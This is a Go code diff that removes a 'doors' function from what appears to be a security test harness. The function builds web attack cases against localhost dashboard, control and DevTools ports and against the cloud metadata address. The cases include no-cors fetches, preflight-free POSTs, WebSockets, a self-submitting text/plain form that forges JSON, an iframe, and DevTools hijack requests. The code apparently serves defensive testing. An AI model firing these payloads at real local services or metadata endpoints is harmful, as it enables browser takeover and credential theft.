@@ -110,25 +110,3 @@ func resolutions() []Attack {
 		on(both, rebind), on(flip, turn),
 	)
 }
-
-// doors are the places of the program itself, and others that every machine may have.
-func doors() []Attack {
-	const g = "door"
-	shared := func(name, addr string, port uint16) Spot {
-		return Spot{Name: name, Addr: ip(addr), Shared: port}
-	}
-	own := []Spot{
-		shared("dashboard", "127.0.0.1", 8787), shared("control", "127.0.0.1", 18791), shared("devtools", "127.0.0.1", 18800),
-		shared("metadata-80", "169.254.169.254", 80),
-	}
-	return slices.Concat(
-		on(own,
-			script(g, "fetch", "fetch('http://@hostport@/x/@id@',{mode:'no-cors'})"),
-			script(g, "post without preflight", "fetch('http://@hostport@/x/@id@',{method:'POST',mode:'no-cors',body:'{}',headers:{'content-type':'text/plain'}})"),
-			script(g, "WebSocket", "new WebSocket('ws://@hostport@/x/@id@')"),
-			markup(g, "form", "<form id=f action=http://@hostport@/x/@id@ method=post enctype=text/plain><input name='{\"a\":\"' value='\"}'></form><script>f.submit()</script>"),
-			markup(g, "frame", "<iframe src=http://@hostport@/x/@id@></iframe>")),
-		on(own[2:3], script(g, "DevTools by WebSocket", "new WebSocket('ws://@hostport@/x/@id@/devtools/browser')"),
-			script(g, "new tab by PUT", "fetch('http://@hostport@/x/@id@/json/new?about:blank',{method:'PUT'})")),
-	)
-}
